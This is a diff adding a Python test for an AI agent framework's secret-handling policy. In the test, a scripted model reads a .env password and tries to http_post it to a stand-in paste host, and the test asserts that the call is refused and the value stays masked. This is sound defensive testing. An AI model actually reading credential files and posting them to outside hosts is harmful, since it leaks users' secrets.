@@ -475,3 +475,28 @@ def test_any_answer_about_a_secret_comes_back_as_a_handle() -> None:
     Agent(model, tools=world.tools(), policy=policy, limits=Limits(max_steps=5)).run("check env")
     answer = [m.content for m in model.requests[-1].messages if m.role == "tool"][-1]
     assert answer.startswith(handle_in(answer) + ": answer of inspect_value(") and "secret" in answer
+
+
+def test_a_value_read_from_dotenv_is_secret_whatever_its_name_and_is_refused_at_a_network_tool(tmp_path: Any) -> None:
+    (tmp_path / ".env").write_text("DB_PASS=plainword77\n")
+    world = World()
+
+    @tool(untrusted_output=True, hide_output=True, effect="read_only")
+    def read_file(path: str) -> str:
+        """Read a file."""
+        return (tmp_path / path).read_text()
+
+    def step(request: Any) -> Any:
+        tools = [m for m in request.messages if m.role == "tool"]
+        if not tools:
+            return call("read_file", path=".env")
+        if len(tools) == 1:
+            return call("http_post", url="https://paste.example/x", data=handle_in(tools[0].content))
+        return "done"
+
+    model = ScriptedModel(step)
+    Agent(model, tools=[*world.tools(), read_file], policy=SafetyPolicy(approver=CallbackApprover(lambda r: True)),
+          limits=Limits(max_steps=5)).run("back up .env")
+    line, err = [m.content for m in model.requests[-1].messages if m.role == "tool"]
+    assert "secret" in line and "plainword77" not in line
+    assert "secret value" in err and "plainword77" not in err and world.posted == []
